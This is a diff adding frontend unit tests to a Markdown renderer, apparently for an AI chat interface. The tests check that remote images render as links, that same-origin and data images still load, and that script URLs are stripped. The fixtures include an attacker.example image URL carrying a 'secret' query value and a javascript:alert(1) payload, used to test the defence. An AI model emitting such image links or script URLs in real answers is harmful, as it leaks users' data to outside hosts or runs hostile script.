@@ -48,6 +48,48 @@ describe('Markdown', () => {
   });
 });
 
+describe('images in answers', () => {
+  const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
+
+  it('shows a remote image as a link with its alt text and URL, never as an <img>', () => {
+    const { container } = render(<Markdown content={'Look: ![the secret](https://attacker.example/pixel?d=secret)'} />);
+    expect(container.querySelector('img')).toBeNull();
+    const link = container.querySelector('a.remote-image')!;
+    expect(link.getAttribute('href')).toBe('https://attacker.example/pixel?d=secret');
+    expect(link.getAttribute('rel')).toContain('noreferrer');
+    expect(link.textContent).toContain('the secret');
+    expect(link.textContent).toContain('https://attacker.example/pixel?d=secret');
+  });
+
+  it('treats protocol-relative and plain-http images on other hosts as remote too', () => {
+    const { container } = render(<Markdown content={'![a](//attacker.example/a.png) ![b](http://127.0.0.1:9/b.png)'} />);
+    expect(container.querySelector('img')).toBeNull();
+    expect(container.querySelectorAll('a.remote-image')).toHaveLength(2);
+  });
+
+  it('renders data:, blob: and same-origin images', () => {
+    const sameOrigin = `${window.location.origin}/api/v1/files/abc/content`;
+    const { container } = render(<Markdown content={`![dot](${pixel}) ![file](/api/v1/files/abc/content) ![full](${sameOrigin})`} />);
+    const sources = [...container.querySelectorAll('img')].map((img) => img.getAttribute('src'));
+    expect(sources).toEqual([pixel, '/api/v1/files/abc/content', sameOrigin]);
+    expect(container.querySelector('a.remote-image')).toBeNull();
+  });
+
+  it('still drops script URLs, and lets data: through only for images', () => {
+    const { container } = render(<Markdown content={`![x](javascript:alert(1)) [link](data:text/html,hi)`} />);
+    expect(container.innerHTML).not.toContain('javascript:');
+    expect(container.querySelector('a[href^="data:"]')).toBeNull();
+  });
+
+  it('loads remote images once they are allowed, without a referrer', () => {
+    const { container } = render(<Markdown content={'![chart](https://images.example/chart.png)'} allowRemoteImages />);
+    const img = container.querySelector('img')!;
+    expect(img.getAttribute('src')).toBe('https://images.example/chart.png');
+    expect(img.getAttribute('alt')).toBe('chart');
+    expect(img.getAttribute('referrerpolicy')).toBe('no-referrer');
+  });
+});
+
 describe('math detection', () => {
   it('detects TeX and leaves prices alone', () => {
     expect(hasMath('$$x^2$$')).toBe(true);
